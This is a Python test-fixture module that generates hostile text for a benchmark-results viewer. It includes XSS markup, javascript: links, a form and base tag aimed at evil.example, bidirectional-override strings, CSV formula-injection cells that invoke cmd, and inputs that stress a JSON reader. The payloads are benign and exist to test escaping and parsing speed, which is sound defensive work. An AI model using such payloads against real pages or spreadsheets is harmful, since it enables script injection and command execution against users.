"""Hostile text (issue 30): what a model's answer, a feed, a folder name or a recorded model name may hold, and run folders full of it."""

import json
import os
from tests.support.synthetic_runs import benchmark_records, write_run


def pwn(tag):
    return "document.body.setAttribute('data-pwned','%s')" % tag


HOSTILE_MARKUP = (
    "<script>%s</script>" % pwn("script"),
    "<img src=x onerror=\"%s\">" % pwn("img"),
    "\"><svg onload=\"%s\">" % pwn("svg"),
    "'><iframe srcdoc=\"<script>parent.%s</script>\"></iframe>" % pwn("iframe"),
    "</title></textarea></style><script>%s</script>" % pwn("close"),
    "<a href=\"javascript:%s\">click</a>" % pwn("href"),
    "<svg><a href=\"javascript:%s\"><text>x</text></a></svg>" % pwn("svg-href"),
    "[x](javascript:alert(1)) ![y](javascript:alert(2)) <javascript:alert(3)>",
    "&lt;script&gt;%s&lt;/script&gt; &#x3C;img src=x onerror=1&#x3E;" % pwn("entity"),
    "<style>body{display:none}</style><meta http-equiv=\"refresh\" content=\"0;url=x\">",
    "<form action=\"http://evil.example\"><input name=q></form>"
    "<base href=\"http://evil.example/\">",
)
# Bidirectional text: overrides and isolates that would mirror the page's own
# words, and right-to-left letters beside numbers and brackets.
HOSTILE_BIDI = ("\u202e(prediction)\u202c", "\u2067\u05e9\u05dc\u05d5\u05dd 12 (ab)",
                "\u200f\u061c\u0645\u0631\u062d\u0628\u0627 3.5 km\u2069\u2066")
# Cells a spreadsheet would evaluate (OWASP's CSV injection), folder-safe.
HOSTILE_FORMULAS = ("=HYPERLINK(\"evil\",\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|x",
                    "@SUM(1+1)*cmd|x", "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1")
WIDE_TOKEN = "W" * 3000                 # one 3,000-character token
LONG_FOLDER = "a-folder-name-" + "y" * 126          # 140 characters


def hostile_text(index):
    """A hostile text of each class, by turns."""
    texts = HOSTILE_MARKUP + HOSTILE_BIDI + HOSTILE_FORMULAS + (WIDE_TOKEN,)
    return texts[index % len(texts)]


# Text that made a reader's time grow with the square of its length (issue
# 38): each pattern is repeated to the size wanted (reading_text).  The
# reading must stay linear on every one (tests/test_answers.py;
# bench/bench_reading.py gives the times at 1 MB).
_ROUTE_TEXT = json.dumps({"line_sequence": ["地铁1号线"], "station_sequence": ["罗湖", "国贸"],
                          "total_distance": "2公里"}, ensure_ascii=False)
READING_PATTERNS = {
    "escaped quotes": '\\"{',                       # \"{\"{... (a string never closed)
    "unclosed strings": '{"a',
    "quote and backslash": '"\\',
    "backslash runs": "\\" * 7 + '"',
    "square brackets": "[",
    "curly brackets": "{",
    "stringified route": json.dumps(_ROUTE_TEXT),   # "{\"line_sequence\": ...}"
    "stringified route, unquoted": json.dumps(_ROUTE_TEXT)[1:-1],
    "route": _ROUTE_TEXT,
    "open objects": '{"a":0 ',
    "closed objects": '{"a":0}',
    "reasoning tags": "<think></think>{",
    "mixed": '\\"{[{"a":0 "\\\\<think>' + json.dumps(_ROUTE_TEXT)[1:30],
}


def reading_text(pattern, size):
    """READING_PATTERNS[pattern] repeated to ``size`` characters."""
    unit = READING_PATTERNS[pattern]
    return (unit * (size // len(unit) + 1))[:size]


def hostile_runs(folder):
    """Run folders of two benchmarks whose folder names, recorded model names,
    cities and failure codes are hostile, in a 140-character folder -> paths."""
    runs = []
    parent = os.path.join(folder, LONG_FOLDER)
    models = (HOSTILE_MARKUP[1], HOSTILE_FORMULAS[0], None)     # None: named by its folder
    folders = ("<img src=x onerror=\"%s\">" % pwn("folder"), HOSTILE_FORMULAS[3],
               HOSTILE_BIDI[1] + LONG_FOLDER[:100])
    for benchmark in ("single_route", "personalized"):
        for index, (model, name) in enumerate(zip(models, folders)):
            records = benchmark_records(benchmark, 30, 0.4 + 0.2 * index, seed=index,
                                        cities=(HOSTILE_MARKUP[0], HOSTILE_BIDI[2],
                                                HOSTILE_FORMULAS[1], WIDE_TOKEN))
            for number, record in enumerate(records):
                if record["failure_codes"]:
                    record["failure_codes"].append("overlap." + hostile_text(number))
            runs.append(write_run(os.path.join(parent, name + "-" + benchmark), records,
                                  benchmark, model=model and model + " " + HOSTILE_BIDI[0]))
    return runs
